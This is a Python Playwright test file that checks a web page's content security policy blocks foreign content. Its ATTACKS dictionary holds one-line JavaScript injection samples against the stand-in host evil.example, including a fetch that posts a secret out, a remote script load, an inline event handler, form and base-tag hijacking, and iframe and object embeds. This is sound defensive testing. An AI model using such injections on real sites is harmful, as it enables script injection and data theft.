"""What the page's content security policy keeps out; that it keeps nothing of the page's own out, every test here tells by its console."""

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

FOREIGN = "https://evil.example"
# Ways in which a stranger's markup or address would run or tell something, each with the directive that is broken by it.
ATTACKS = {
    "img-src": f"document.body.append(Object.assign(new Image(), {{ src: '{FOREIGN}/tell' }}))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.ran = true\" id=lure></p>'); lure.click()",
    "script-src-elem": f"document.body.append(Object.assign(document.createElement('script'), {{ src: '{FOREIGN}/run.js' }}))",
    "script-src-elem inline": "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }))",
    "connect-src": f"fetch('{FOREIGN}/tell', {{ method: 'POST', body: 'secret' }}).catch(() => null)",
    "form-action": f"document.body.insertAdjacentHTML('beforeend', '<form id=trap action={FOREIGN}></form>'); trap.submit()",
    "base-uri": f"document.head.prepend(Object.assign(document.createElement('base'), {{ href: '{FOREIGN}' }}))",
    "frame-src": f"document.body.append(Object.assign(document.createElement('iframe'), {{ src: '{FOREIGN}' }}))",
    "object-src": f"document.body.append(Object.assign(document.createElement('object'), {{ data: '{FOREIGN}/x' }}))",
}
LISTEN = """() => {
  window.broken = [];
  document.addEventListener("securitypolicyviolation", (event) => window.broken.push(event.effectiveDirective));
}"""


def test_nothing_of_a_stranger_runs_or_is_told_to_one(open_page, tone_address, complaints):
    page = open_page(tone_address).page
    page.reload()  # from the browser's cache, with the policy that came with it
    expect(page.get_by_role("heading", name="Voice studio")).to_be_visible()
    page.evaluate(LISTEN)
    for attack in ATTACKS.values():
        page.evaluate(f"() => {{ {attack} }}")
    page.wait_for_function(f"window.broken.length >= {len(ATTACKS)}")
    assert sorted(page.evaluate("window.broken")) == sorted(name.split()[0] for name in ATTACKS)
    assert page.evaluate("window.ran") is None
    assert all("Content Security Policy" in said or said.startswith(f"request to {FOREIGN}") for said in complaints)
    complaints.clear()
